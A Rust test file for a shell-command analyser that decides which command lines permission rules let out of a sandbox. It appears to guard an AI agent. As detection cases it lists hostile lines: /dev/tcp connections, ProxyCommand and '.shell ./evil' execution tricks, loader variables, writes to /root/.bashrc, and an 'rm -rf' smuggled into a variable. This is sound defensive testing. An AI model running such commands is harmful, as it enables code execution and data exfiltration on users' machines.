//! What a rule with words may let out of the box, and what stays since it would run more than they say.

use heeler_shell::{Command, ConcernKind, read};

use crate::PLACE;

/// Whether rules of these words, parted by ` | `, say all that a line runs and writes.
fn is_let_out(line: &str, rules: &str) -> bool {
    let read = read(line, &PLACE);
    let is_odd = |kind| matches!(kind, ConcernKind::NotUnderstood | ConcernKind::Environment);
    let is_allowed = |command: &Command| {
        rules.split(" | ").any(|rule| {
            let begins = |words: &[String]| {
                let wanted: Vec<&str> = rule.split(' ').collect();
                words.len() >= wanted.len() && words.iter().zip(wanted).all(|(a, b)| a == b)
            };
            begins(&command.words) || command.is_certain() && begins(&command.plain)
        })
    };
    let mut named = read.commands.iter().filter(|command| !command.is_wrapper);
    !read.is_open_ended
        && read.writes.is_empty()
        && !read.concerns.iter().any(|concern| is_odd(concern.kind))
        && named.all(is_allowed)
}

/// Whoever asks to look only gets no more.
fn check_stays(line: &str, rules: &str) {
    assert!(!is_let_out(line, rules), "{line} | {rules}");
    assert!(!read(line, &PLACE).is_read_only, "{line} only reads");
}

#[test]
fn options_that_run_or_write_something_stay_in_the_box() {
    for (line, rules) in [
        ("pip --python ./evil.sh list", "pip list"),
        ("pip list --python=./evil.sh", "pip list"),
        ("pip list --log /any/path", "pip list"),
        ("pip --foo=./evil.sh list", "pip list"),
        ("diff3 --diff-program=./evil.sh a b c", "diff3"),
        ("nm --plugin ./x.so a", "nm"),
        ("man -C man.conf ./x.1", "man"),
        ("X=of=/out/dd; dd if=a $X", "dd"),
        ("dd if=$X", "dd"),
        ("uv --python ./evil.sh pip list", "uv pip list"),
        ("uv pip list -p evil.sh", "uv pip list"),
        ("uv --directory sub pip list", "uv pip list"),
        ("go list -toolexec=./evil.sh", "go list"),
        ("go list --toolexec ./evil.sh", "go list"),
        ("go vet -vettool=./evil.sh", "go vet"),
        ("fd . --exec=./evil.sh cat", "fd"),
        ("fd -xtouch cat", "fd"),
        ("fd -x=touch cat", "fd"),
        ("actionlint -shellcheck=./evil.sh", "actionlint"),
        ("svn diff --diff-cmd ./evil.sh", "svn diff"),
        ("hg --config alias.log=!x log", "hg log"),
        ("info -o FILE", "info"),
        ("xmllint --shell a", "xmllint"),
        ("npm fund --browser=./evil.sh", "npm fund"),
        ("npm ls --node-options='--require ./x.js'", "npm ls"),
        ("cargo +./evil test", "cargo test"),
        ("jobs -x git push", "jobs"),
        ("arch -arm64 git push", "arch"),
        ("awk -f a.awk b", "awk"),
        ("gawk -E a.awk", "gawk"),
        ("gawk -D -f a.awk", "gawk"),
        ("journalctl --cursor-file=F", "journalctl"),
        ("bat cache --build --target x", "bat"),
        ("hyperfine ./evil.sh", "hyperfine"),
    ] {
        check_stays(line, rules);
    }
    for line in ["mktemp ./x.XXXX", "tree -R -L 2", "go list -export"] {
        assert!(!read(line, &PLACE).is_read_only, "{line} only reads");
    }
}

#[test]
fn git_in_another_folder_stays_in_the_box_and_still_only_reads() {
    for line in ["cd sub && git status", "cd $X; git status", "(cd a; ls); cd b; git log"] {
        assert!(!is_let_out(line, "cd | ls | git"), "{line}");
    }
    assert!(read("cd sub && git status", &PLACE).is_read_only);
    assert!(is_let_out("cd /space/project && git push", "cd | git push"));
    assert!(is_let_out("(cd sub && ls); git push", "cd | ls | git push"));
}

#[test]
fn options_by_which_git_looks_into_repositories_within_stay_in_the_box() {
    for line in [
        "git show --submodule=diff",
        "git log -p --submod=diff",
        "git log -p --submodule",
        "git diff --submodule=$X",
        "git diff --ignore-submodules=none",
        "git status --ign=untracked",
        "git push --recurse-submodules=check",
        "git push --rec=on-demand",
        "git fetch --recurse-submodules",
        "git format-patch --submodule=diff main",
        "git -c submodule.recurse=true fetch",
        "git -c diff.submodule=diff show",
        "git -c status.submoduleSummary=true status",
    ] {
        assert!(!is_let_out(line, "git"), "{line}");
    }
    for line in [
        "git show --submodule=short",
        "git diff --ignore-submodules",
        "git diff --ignore-submodules=all",
        "git push --recurse-submodules=no",
        "git fetch --no-recurse-submodules",
        "git -c status.short=true status",
    ] {
        assert!(is_let_out(line, "git"), "{line}");
    }
    assert!(read("git show --submodule", &PLACE).is_read_only);
    assert!(!read("git clone --recurse-submodules URL", &PLACE).is_open_ended);
}

#[test]
fn plain_uses_are_let_out() {
    for (line, rules) in [
        ("git status", "git status"),
        ("pip list --format=json", "pip list"),
        ("uv --python 3.12 pip list", "uv pip list"),
        ("uv run --python python3.12 pytest", "uv run | pytest"),
        ("cargo --color never +nightly test", "cargo test"),
        ("npm --loglevel=error ls", "npm ls"),
        ("kubectl get pods", "kubectl get"),
        ("git remote -v", "git remote"),
        ("go list -m all", "go list"),
        ("fd -e rs -x wc -l", "fd | wc"),
        ("RUST_BACKTRACE=1 cargo test", "cargo test"),
        ("NODE_ENV=test npm publish", "npm publish"),
        ("GOOS=linux GOARCH=arm64 go list", "go list"),
        ("GOOGLE_CLOUD_PROJECT=x gcloud info", "gcloud info"),
        ("CI=1 LC_ALL=C TZ=UTC DEBUG='*' npm ls", "npm ls"),
        ("GIT_TRACE=1 GIT_PAGER=cat AWS_PAGER= git log", "git log"),
        ("env FORCE_COLOR=1 cargo test", "cargo test"),
        ("A=1; echo $A", "echo"),
        ("while IFS= read -r line; do echo $line; done", "read | echo"),
        ("dd if=/dev/zero bs=1", "dd"),
    ] {
        assert!(is_let_out(line, rules), "{line} | {rules}");
    }
}

#[test]
fn variables_that_load_something_ask_nothing_and_stay_in_the_box() {
    for (line, rules) in [
        ("NODE_OPTIONS='--require ./x.js' npm ls", "npm ls"),
        ("PYTHONPATH=src pip list", "pip list"),
        ("env PYTHONPATH=src pip list", "pip list"),
        ("export PERL5OPT=-Mx; shasum a", "shasum | export"),
        ("RUSTFMT=./evil.sh cargo fmt", "cargo fmt"),
        ("GOFLAGS=-toolexec=./evil.sh go list", "go list"),
        ("GOENV=./evil.env go list", "go list"),
        ("GOTOOLCHAIN=path GOAUTH=./evil.sh go list", "go list"),
        ("GOCACHEPROG=./evil.sh go list", "go list"),
        ("R_PROFILE_USER=./evil.R make", "make"),
        ("GHC_ENVIRONMENT=./evil COR_PROFILER_PATH=./evil.so make", "make"),
        ("CC=./evil.sh make", "make"),
        ("MAVEN_OPTS=-javaagent:x mvn test", "mvn test"),
        ("SOME_WRAPPER=./evil.sh tool", "tool"),
    ] {
        check_stays(line, rules);
        assert_eq!(read(line, &PLACE).concerns, [], "{line}");
    }
}

#[test]
fn a_variable_that_is_not_known_to_be_harmless_stays_in_the_box() {
    for (line, rules) in [
        ("AWS_CONFIG_FILE=./evil aws s3 ls", "aws"),
        ("DOCKER_CONFIG=./evil docker ps", "docker"),
        ("CLOUDSDK_PYTHON=./evil gcloud info", "gcloud"),
        ("GREP='rm -rf precious --' zgrep x f.gz", "zgrep"),
        ("DIFF=./evil zdiff a b", "zdiff"),
        ("Npm_config_script_shell=./evil npm test", "npm test"),
        ("PSQLRC=./evil psql -l", "psql"),
        ("GH_CONFIG_DIR=./evil gh pr list", "gh"),
        ("TF_CLI_ARGS=-state=x terraform plan", "terraform plan"),
        ("YARN_YARN_PATH=./evil yarn test", "yarn test"),
        ("BAT_CONFIG_PATH=./evil bat a", "bat"),
        ("SSLKEYLOGFILE=/root/.bashrc curl https://x.y", "curl"),
        ("env PSQLRC=./evil psql -l", "psql"),
        ("env -i PSQLRC=./evil psql -l", "env | psql"),
        ("export PSQLRC=./evil; psql -l", "export | psql"),
        ("PSQLRC=./evil; export PSQLRC; psql -l", "export | psql"),
        ("declare -gx PSQLRC=./evil; psql -l", "declare | psql"),
        ("set -ea; PSQLRC=./evil; psql -l", "set | psql"),
        ("set -o allexport; PSQLRC=./evil; psql -l", "set | psql"),
    ] {
        check_stays(line, rules);
    }
}

#[test]
fn a_push_to_a_folder_stays_in_the_box() {
    for line in [
        "git push ./srv.git main",
        "git push ../srv main",
        "git push /srv/x.git",
        "git push sub/srv.git",
        "git push ~/srv",
        "git push file:///srv/x.git",
        "git push ext::./evil",
        "git push evil::x",
        "git push $X main",
        "git push -u \"$X\" main",
        "git push --repo=./srv.git",
        "git push --repo ./srv.git",
        "git push . HEAD:x",
        "git push --receive-pack=./evil origin",
        "git push --exec ./evil origin",
        "git send-pack ./srv.git main",
        "git subtree push --prefix=a ./srv.git main",
    ] {
        check_stays(line, "git push | git send-pack | git subtree push");
    }
    for line in [
        "git push",
        "git push origin main",
        "git push -u origin HEAD:refs/heads/feature/x",
        "git push https://example.com/a/b.git main",
        "git push git@example.com:a/b.git main",
        "git push ssh://git@example.com/a/b.git",
        "git push --repo=origin",
    ] {
        assert!(is_let_out(line, "git push"), "{line}");
    }
}

#[test]
fn what_is_run_here_to_reach_something_else_stays_in_the_box() {
    for (line, rules) in [
        ("ssh -o ProxyCommand=./evil host", "ssh"),
        ("ssh host -o ProxyCommand=./evil", "ssh"),
        ("ssh host -oproxycommand=./evil ls", "ssh"),
        ("ssh -o 'ProxyCommand ./evil' host", "ssh"),
        ("ssh -o PermitLocalCommand=yes -o LocalCommand=./evil host", "ssh"),
        ("ssh -o KnownHostsCommand=./evil host", "ssh"),
        ("ssh -o Include=./evil host", "ssh"),
        ("ssh -o $X host", "ssh"),
        ("ssh $X host", "ssh"),
        ("ssh -F ./evil host", "ssh"),
        ("ssh -vF./evil host", "ssh"),
        ("ssh -I ./evil.so host", "ssh"),
        ("scp -S ./evil a host:", "scp"),
        ("scp -o ProxyCommand=./evil a host:", "scp"),
        ("scp -D ./evil a host:", "scp"),
        ("scp host:a /root/.bashrc", "scp"),
        ("sftp -S ./evil host:a", "sftp"),
        ("sftp -D ./evil", "sftp"),
        ("sftp -b ./evil host:a", "sftp"),
        ("sftp -o ProxyCommand=./evil host:a", "sftp"),
        ("sftp host <<< '!./evil'", "sftp"),
        ("sshpass -p x ssh -o ProxyCommand=./evil host", "sshpass | ssh"),
        ("rsync -e ./evil a host:b", "rsync"),
        ("rsync -e 'ssh -o ProxyCommand=./evil' a host:b", "rsync"),
        ("rsync --rsh=$X a host:b", "rsync"),
        ("wget --use-askpass=./evil http://x", "wget"),
        ("gcc -wrapper ./evil,x a.c", "gcc"),
        ("gcc -fplugin=./evil.so a.c", "gcc"),
        ("g++ -B./evil a.cc", "g++"),
        ("gcc -B ./evil a.c", "gcc"),
        ("gcc -specs=./evil a.c", "gcc"),
        ("gcc @evil a.c", "gcc"),
        ("clang -Xclang -load -Xclang ./evil.so a.c", "clang"),
        ("clang -fpass-plugin=./evil.so a.c", "clang"),
        ("gcc -Wl,-plugin,./evil.so a.c", "gcc"),
        ("kubectl get pods --kubeconfig ./kc", "kubectl get"),
        ("kubectl get pods --kubeconfig=./kc", "kubectl get"),
        ("sqlite3 db '.shell ./evil'", "sqlite3"),
        ("sqlite3 db .system\\ ./evil", "sqlite3"),
        ("sqlite3 db '.import |./evil t'", "sqlite3"),
        ("sqlite3 db '.load ./evil'", "sqlite3"),
        ("sqlite3 -cmd '.shell ./evil' db 'select 1'", "sqlite3"),
        ("sqlite3 db \"select load_extension('./evil')\"", "sqlite3"),
        ("sqlite3 db <<< '.shell ./evil'", "sqlite3"),
        ("sqlite3 db < evil", "sqlite3"),
        ("psql -c '\\! ./evil'", "psql"),
        ("mysql -e 'system ./evil'", "mysql"),
        ("mysql -e 'select 1; source evil'", "mysql"),
        ("psql -c 'select 1 \\g |./evil'", "psql"),
        ("duckdb -c 'copy (select 1) to 'x''", "duckdb"),
        ("sqlite3 db -Axf evil", "sqlite3"),
        ("rustc -C linker=./evil a.rs", "rustc"),
        ("rustc -Clinker=./evil a.rs", "rustc"),
        ("mosh --ssh=./evil host", "mosh"),
        ("aria2c --on-download-complete=./evil http://x", "aria2c"),
        ("yt-dlp --exec ./evil http://x", "yt-dlp"),
    ] {
        check_stays(line, rules);
    }
    for (line, rules) in [
        ("ssh host ls -la", "ssh"),
        ("ssh -p 22 -i key -o StrictHostKeyChecking=no user@host 'tail -F log'", "ssh"),
        ("ssh -o UserKnownHostsFile=/dev/null host tail -F log", "ssh"),
        ("scp -P 22 a user@host:b", "scp"),
        ("sftp host:a", "sftp"),
        ("rsync -e 'ssh -p 22' -n host:a host:b", "rsync"),
        ("wget -qO- http://x", "wget"),
        ("curl -sS -o - -w '%{http_code}' http://x", "curl"),
        ("curl -H 'A: b' -d @a -X POST http://x", "curl"),
        ("gcc -Wall -O2 -Wl,-rpath,x -c a.c", "gcc"),
        ("kubectl get pods -n x -o json", "kubectl get"),
        ("sqlite3 -header db 'select 1' .schema", "sqlite3"),
        ("psql -h host -c 'select source, system from pages'", "psql"),
        ("psql -c '\\dt+ a.*'", "psql"),
        ("rustc -C opt-level=3 -o a a.rs", "rustc"),
    ] {
        let read = read(line, &PLACE);
        assert!(!read.is_open_ended, "{line}");
        assert!(is_let_out(line, rules) || !read.writes.is_empty(), "{line} | {rules}");
    }
}

#[test]
fn a_connection_that_bash_opens_is_in_no_rule() {
    for line in [
        "cat a > /dev/tcp/127.0.0.1/80",
        "cat a >> /dev/udp/host/53",
        "cat a &> /dev/tcp/host/80",
        "cat a >| /dev/tcp/$HOST/80",
        "cat < /dev/tcp/host/80",
        "cat a 3<> /dev/tcp/host/80 >&3",
        "cat a | cat > /dev/tcp/host/80",
        "{ cat a; } > /dev/tcp/host/80",
        "while true; do cat a; done < /dev/tcp/host/80",
        "exec 3<>/dev/tcp/host/80; cat a >&3",
    ] {
        check_stays(line, "cat | exec | true");
    }
}

#[test]
fn what_is_fetched_is_written_where_it_says() {
    for (line, expected) in [
        ("curl -o /root/.bashrc http://x", "/root/.bashrc"),
        ("curl -sSLo /root/.bashrc http://x", "/root/.bashrc"),
        ("curl --output out http://x", "/space/project/out"),
        ("curl --output-dir /root -O http://x", "/root"),
        ("curl -c /root/a http://x", "/root/a"),
        ("curl --cookie-jar=/root/a http://x", "/root/a"),
        ("curl -D /root/a http://x", "/root/a"),
        ("curl --dump-header /root/a http://x", "/root/a"),
        ("curl --trace /root/a http://x", "/root/a"),
        ("curl --trace-ascii /root/a http://x", "/root/a"),
        ("curl --stderr /root/a http://x", "/root/a"),
        ("wget -O /root/.bashrc http://x", "/root/.bashrc"),
        ("wget -P /root http://x", "/root"),
        ("wget --directory-prefix=/root http://x", "/root"),
        ("wget -o /root/a http://x", "/root/a"),
        ("wget -a /root/a http://x", "/root/a"),
    ] {
        assert_eq!(read(line, &PLACE).writes, [expected], "{line}");
    }
    for line in [
        "curl -K evil http://x",
        "curl --config evil",
        "curl -w '%output{/root/a}x' http://x",
        "curl -w @evil http://x",
        "curl -o '#1' 'http://x/{a,b}'",
        "curl -T evil file:///root/.bashrc",
        "curl -T evil --proto-default file /root/.bashrc",
        "curl --variable a=/root/b --expand-output '{{a}}' http://x",
        "wget2 --local-plugin=./evil.so http://x",
        "wget -e use_askpass=./evil http://x",
        "wget --execute=x http://x",
        "wget --config=evil http://x",
    ] {
        check_stays(line, "curl | wget | wget2");
    }
    assert_eq!(read("curl http://x", &PLACE).writes, Vec::<String>::new());
}

#[test]
fn a_clone_and_outputs_are_written_where_they_say() {
    let writes = |line: &str, expected: &[&str]| {
        assert_eq!(read(line, &PLACE).writes, expected, "{line}");
    };
    for line in [
        "git clone URL /out",
        "git clone -q --depth 1 -b main --single-branch URL /out",
        "git clone --depth=1 --branch main -o up -j 4 --filter blob:none URL /out",
        "git clone --reference ../r --server-option a --shallow-since x URL -- /out",
        "cd / && git clone URL out",
        "gcc a.c --output=/out",
        "gcc a.c --output /out",
        "gcc a.c -o/out",
        "gcc -c a.c -MMD -MF/out",
        "ld a.o --output=/out",
        "ld a.o -Map=/out",
    ] {
        writes(line, &["/out"]);
    }
    writes("git clone URL sub/.claude", &["/space/project/sub/.claude"]);
    writes("git clone --separate-git-dir=/out URL sub", &["/out", "/space/project/sub"]);
    writes("git clone --separate-git-dir /out URL", &["/out", "/space/project/URL"]);
    writes("git clone --depth 1 https://host/a/b.git/", &["/space/project/b"]);
    writes("git clone user@host:b/.git", &["/space/project/b"]);
    writes("cd / && git clone ../b.bundle", &["/b"]);
    writes("gcc -MMD -MFa.d a.c --output a", &["/space/project/a.d", "/space/project/a"]);
    for line in ["git clone URL .claude", "git clone host:.claude.git", "git clone x/.vscode"] {
        let refused = read(line, &PLACE).concerns;
        assert!(refused.iter().any(|concern| concern.why.contains("is protected")), "{line}");
    }
    check_stays("git clone $URL", "git clone");
    check_stays("git clone URL $FOLDER", "git clone");
}

#[test]
fn a_verb_of_several_words_is_found_behind_options() {
    let asks = |line: &str, why: &str| {
        let concerns = read(line, &PLACE).concerns;
        assert!(concerns.iter().any(|concern| concern.why.contains(why)), "{line}: {concerns:?}");
    };
    asks("git submodule --quiet deinit -f --all", "git submodule removes a tree");
    asks("git submodule --quiet foreach 'git push'", "git push talks");
    asks("git -C . remote -v add evil URL", "writes the configuration of git");
    asks("git stash -q drop", "forgets what was put aside");
    asks("npm config --json set a=b", "decides what npm runs");
    asks("jj git --quiet remote add a b", "talks to another");
    let plain = |line: &str| read(line, &PLACE).commands[0].plain.join(" ");
    assert_eq!(plain("git remote -v add evil URL"), "git remote add -v evil URL");
    assert_eq!(plain("git stash -m drop"), "git stash -m drop");
    assert!(!read("git stash -m list", &PLACE).is_read_only);
    assert_eq!(read("git remote -v", &PLACE).concerns, []);
}

#[test]
fn what_runs_another_command_tells_it() {
    for line in [
        "hyperfine 'git push'",
        "hyperfine -w 3 'ls' 'git push'",
        "choom -n 100 git push",
        "numactl -N 0 git push",
        "xvfb-run -a git push",
        "dbus-run-session -- git push",
        "rlwrap -a git push",
        "torsocks git push",
        "caffeinate -i git push",
        "gdb -batch -ex run --args git push",
        "ssh-agent git push",
        "setpriv --reuid 1 git push",
        "systemd-run --user -p A=b git push",
        "jobs -x git push",
        "arch -arm64 git push",
        "script -q /dev/null git push",
        "faketime yesterday git push",
        "sg group 'git push'",
        "entr -s 'git push'",
    ] {
        let commands = read(line, &PLACE).commands;
        let pushes = |command: &Command| command.plain.starts_with(&["git".into(), "push".into()]);
        assert!(commands.iter().any(pushes), "{line}: {commands:?}");
    }
    for line in ["start-stop-daemon --exec /usr/bin/git -- push", "entr -s -r 'git push'"] {
        let concerns = read(line, &PLACE).concerns;
        let is_odd = concerns.iter().any(|concern| concern.kind == ConcernKind::NotUnderstood);
        assert!(is_odd, "{line}: {concerns:?}");
    }
}
